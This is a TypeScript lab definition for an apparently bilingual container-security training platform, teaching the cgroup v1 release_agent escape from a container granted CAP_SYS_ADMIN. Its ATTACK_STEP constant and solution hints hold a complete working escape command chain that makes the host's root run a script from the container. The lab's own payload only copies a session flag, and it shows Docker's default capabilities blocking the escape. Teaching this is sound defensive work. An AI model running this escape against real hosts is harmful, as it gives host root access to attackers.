// Escape lab: CAP_SYS_ADMIN lets root in a container mount a cgroup v1 hierarchy of its own
// and set its release_agent, a program the kernel runs as the host's root, in the host's
// namespaces, when the last process leaves a cgroup marked notify_on_release. Pointed at a
// script in the container's own layer (the overlay upperdir, a host path), it runs that
// script on the host. Containment: the payload copies the session's flag (0600 in the
// session directory) into loot/ (0700, mounted in no container) and touches nothing else;
// the session releases the hierarchy when it ends, the sweep after a crash. The hardened
// contrast is the same container with Docker's default capabilities: the mount is refused.
import type { ContainerInspectInfo, LabDefinition } from '../../server/lab-kit.ts';
import { HARDENED, HARDENED_TITLE } from '../shared/hardened-profile.ts';
import { t } from '../shared/localized.ts';

const SMALL = { memoryMb: 128, pidsLimit: 128, cpus: 0.5 } as const;
const NOTES = { source: 'notes', target: '/notes', readOnly: true };

/** Host path of the container's writable layer, from its root overlay in /proc/self/mountinfo. */
const UPPERDIR_STEP = `sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/self/mountinfo | head -1`;

/**
 * The whole attack on one line: find the session directory (the host path of /notes) and
 * the layer's host path, write the payload, mount a hierarchy with a fresh nslab-… name,
 * arm release_agent, let a process leave a notify_on_release cgroup, then clean up.
 */
export const ATTACK_STEP = [
  `d=$(awk '$5=="/notes" {print $4}' /proc/self/mountinfo); d=\${d%/notes}`,
  `up=$(${UPPERDIR_STEP})`,
  `printf '#!/bin/sh\\ncp %s/flag %s/loot/flag\\n' "$d" "$d" > /payload && chmod +x /payload`,
  `n=nslab-$(head -c4 /dev/urandom | od -An -tx1 | tr -d ' \\n')`,
  'mkdir -p /tmp/cg && mount -t cgroup -o none,name=$n nslab /tmp/cg && mkdir -p /tmp/cg/x && echo 1 > /tmp/cg/x/notify_on_release && echo "$up/payload" > /tmp/cg/release_agent && sh -c \'echo $$ > /tmp/cg/x/cgroup.procs\'',
  'sleep 1; cat /tmp/cg/release_agent; rmdir /tmp/cg/x; sleep 1; umount /tmp/cg',
].join('; ');

/** The overlay's upper directory from inspect (dockerode types only device-mapper's data). */
function upperDir(info: ContainerInspectInfo): string | undefined {
  return (info.GraphDriver.Data as unknown as Record<string, string | undefined>).UpperDir;
}

/** The directory, without a trailing slash, so "…/diff/" and "…/diff" compare equal. */
function plainPath(text: string): string {
  return text.trim().replace(/\/+$/, '');
}

export const escapeReleaseAgentLab: LabDefinition = {
  id: 'escape-release-agent',
  title: t('Escape: cgroup release_agent', '逃逸：cgroup release_agent'),
  topic: 'escapes',
  summary: t(
    'With CAP_SYS_ADMIN, root in a container mounts a cgroup v1 hierarchy and makes the kernel run a script from the container as the host’s root. Use it to copy a root-only flag on the host, then see Docker’s default capabilities stop the mount.',
    '有了 CAP_SYS_ADMIN，容器里的 root 就能挂载一个 cgroup v1 层级，让内核以宿主机 root 的身份运行容器里的一个脚本。用它在宿主机上复制一个仅 root 可读的 flag，然后看 Docker 的默认能力如何阻止这次挂载。',
  ),
  minutes: 15,
  learned: [
    t(
      "With CAP_SYS_ADMIN, root in a container can mount a cgroup v1 hierarchy and have the host's root run its script.",
      '有了 CAP_SYS_ADMIN，容器里的 root 可以挂载一个 cgroup v1 层级，让宿主机的 root 运行它的脚本。',
    ),
    t(
      "Docker's default capabilities (no SYS_ADMIN) stop the mount, and with it the escape.",
      'Docker 的默认能力（没有 SYS_ADMIN）会阻止这次挂载，也就阻止了这次逃逸。',
    ),
  ],
  lesson: 'escape-release-agent.md',
  escape: true,
  unavailable: (facts) =>
    facts.cgroupV1Mount === true
      ? undefined
      : t(
          'This lab needs a kernel that can mount a cgroup v1 hierarchy (release_agent exists only in cgroup v1), and this host’s kernel refused one at start-up. The lesson explains the attack; on this host it cannot be run.',
          '本实验需要一个能挂载 cgroup v1 层级的内核（release_agent 只存在于 cgroup v1 中），而这台宿主机的内核在启动时拒绝了挂载。课文讲解了这种攻击；在这台宿主机上无法运行它。',
        ),
  hostFiles: [
    { path: 'flag', content: '{{token}}\n', mode: 0o600 },
    { path: 'loot', mode: 0o700 },
    { path: 'notes', mode: 0o755 },
    {
      path: 'notes/README',
      content:
        'This directory is part of your session’s directory on the host, mounted read-only.\nIts host path is in /proc/self/mountinfo. Next to it, on the host: flag (0600) and loot/ (0700).\n',
      mode: 0o644,
    },
  ],
  containers: [
    {
      name: 'escape',
      title: t('escape (--cap-add SYS_ADMIN)', 'escape（--cap-add SYS_ADMIN）'),
      hostname: 'escape',
      capAdd: ['SYS_ADMIN'],
      securityOpt: ['apparmor=unconfined'],
      cgroupnsMode: 'host',
      sessionDirMounts: [NOTES],
      ...SMALL,
    },
    {
      name: 'hardened',
      title: HARDENED_TITLE,
      hostname: 'hardened',
      ...HARDENED,
      sessionDirMounts: [NOTES],
      ...SMALL,
    },
  ],
  exercises: [
    {
      id: 'host-path',
      title: t('Where your files live on the host', '你的文件在宿主机上的位置'),
      goal: t(
        "Report the host path of the escape container's writable layer: the directory where the host keeps every file you create in that container.",
        '报告 escape 容器的可写层在宿主机上的路径：宿主机就在这个目录里保存你在该容器中创建的每一个文件。',
      ),
      answer: {
        label: t('Host path', '宿主机路径'),
        placeholder: t('/var/lib/docker/overlay2/…/diff', '/var/lib/docker/overlay2/…/diff'),
      },
      hints: [
        t(
          'The container’s / is an overlay mount, and the kernel lists a mount’s options in /proc/self/mountinfo, paths and all.',
          '容器的 / 是一个 overlay 挂载，而内核会在 /proc/self/mountinfo 中列出挂载的选项，连同其中的路径。',
        ),
        t(
          'That is the hardened container’s layer. Ask in the escape terminal: each container has its own.',
          '那是 hardened 容器的层。请在 escape 终端中查询：每个容器都有自己的层。',
        ),
        t(`In the escape terminal: ${UPPERDIR_STEP}`, `在 escape 终端中：${UPPERDIR_STEP}`),
      ],
      check: async (ctx, answer) => {
        const own = upperDir(await ctx.container('escape').inspect());
        const other = upperDir(await ctx.container('hardened').inspect());
        const submitted = plainPath(answer ?? '');
        if (own !== undefined && submitted === plainPath(own)) {
          return {
            passed: true,
            reason: t(
              `Right: ${own} (docker inspect: GraphDriver.Data.UpperDir). A file you write at /payload in the escape container is ${plainPath(own)}/payload on the host: a path the host can execute.`,
              `没错：${own}（docker inspect：GraphDriver.Data.UpperDir）。你在 escape 容器中写到 /payload 的文件，在宿主机上就是 ${plainPath(own)}/payload：一个宿主机可以执行的路径。`,
            ),
          };
        }
        if (other !== undefined && submitted === plainPath(other)) {
          return {
            passed: false,
            reason: t(
              'That is the hardened container’s writable layer, not the escape container’s.',
              '那是 hardened 容器的可写层，不是 escape 容器的。',
            ),
            hint: 1,
          };
        }
        return {
          passed: false,
          reason: t(
            'That is not the escape container’s upperdir.',
            '那不是 escape 容器的 upperdir。',
          ),
          hint: 0,
        };
      },
      cheat: [{ terminal: 'hardened', input: UPPERDIR_STEP, capture: /^(\/\S+\/diff)$/m }],
      solution: [{ terminal: 'escape', input: UPPERDIR_STEP, capture: /^(\/\S+\/diff)$/m }],
    },
    {
      id: 'host-runs-it',
      title: t('Make the host run your script', '让宿主机运行你的脚本'),
      goal: t(
        "Make the host's root copy the session's flag (flag, mode 0600, next to /notes on the host and mounted nowhere) into loot/ next to it, a directory no container mounts.",
        '让宿主机的 root 把会话的 flag（文件 flag，权限 0600，在宿主机上位于 /notes 旁边，没有挂载到任何地方）复制到它旁边的 loot/ 中，这是一个没有任何容器挂载的目录。',
      ),
      hints: [
        t(
          'In cgroup v1 each hierarchy has a release_agent: a program the kernel starts as the host’s root when the last process leaves a cgroup with notify_on_release set. Mounting a hierarchy needs CAP_SYS_ADMIN.',
          '在 cgroup v1 中，每个层级都有一个 release_agent：当最后一个进程离开一个设置了 notify_on_release 的控制组时，内核会以宿主机 root 的身份启动这个程序。挂载一个层级需要 CAP_SYS_ADMIN。',
        ),
        t(
          'mount -t cgroup -o none,name=nslab-<something> nslab /tmp/cg; mkdir /tmp/cg/x; echo 1 > /tmp/cg/x/notify_on_release; put "<upperdir>/payload" in /tmp/cg/release_agent; write /payload (#!/bin/sh, cp <session dir>/flag <session dir>/loot/); then sh -c \'echo $$ > /tmp/cg/x/cgroup.procs\'. The session directory is the host path of /notes minus /notes.',
          'mount -t cgroup -o none,name=nslab-<something> nslab /tmp/cg; mkdir /tmp/cg/x; echo 1 > /tmp/cg/x/notify_on_release; 把 "<upperdir>/payload" 写入 /tmp/cg/release_agent; 编写 /payload（#!/bin/sh，cp <session dir>/flag <session dir>/loot/）; 然后 sh -c \'echo $$ > /tmp/cg/x/cgroup.procs\'。会话目录就是 /notes 的宿主机路径去掉 /notes。',
        ),
        t(`In the escape terminal: ${ATTACK_STEP}`, `在 escape 终端中：${ATTACK_STEP}`),
      ],
      check: async (ctx) => {
        const files = (await ctx.sessionFiles.list('loot')).filter((f) => !f.isDirectory);
        for (const file of files) {
          if ((await ctx.sessionFiles.read(`loot/${file.name}`)).includes(ctx.sessionToken)) {
            return {
              passed: true,
              reason: t(
                `loot/${file.name} holds the flag and belongs to uid ${file.uid}: the kernel ran your script as the host's root, outside every namespace of the container. The same script could have done anything root can.`,
                `loot/${file.name} 含有 flag，属于 uid ${file.uid}：内核以宿主机 root 的身份、在容器的所有命名空间之外运行了你的脚本。同样的脚本本可以做 root 能做的任何事。`,
              ),
            };
          }
        }
        return {
          passed: false,
          reason:
            files.length === 0
              ? t(
                  'loot/ on the host is empty: the host has not run your script (yet).',
                  '宿主机上的 loot/ 是空的：宿主机（还）没有运行你的脚本。',
                )
              : t(
                  `loot/ holds ${files.map((f) => f.name).join(', ')}, but not the flag.`,
                  `loot/ 中有 ${files.map((f) => f.name).join(', ')}，但没有 flag。`,
                ),
          hint: files.length === 0 ? 0 : 1,
        };
      },
      cheat: [
        // The same attack, with Docker's default capabilities: mount is refused.
        { terminal: 'hardened', input: ATTACK_STEP },
        // loot/ inside the container is not the host's.
        { terminal: 'escape', input: 'mkdir -p /loot && cat /notes/README > /loot/flag' },
      ],
      solution: [{ terminal: 'escape', input: ATTACK_STEP }],
    },
  ],
};
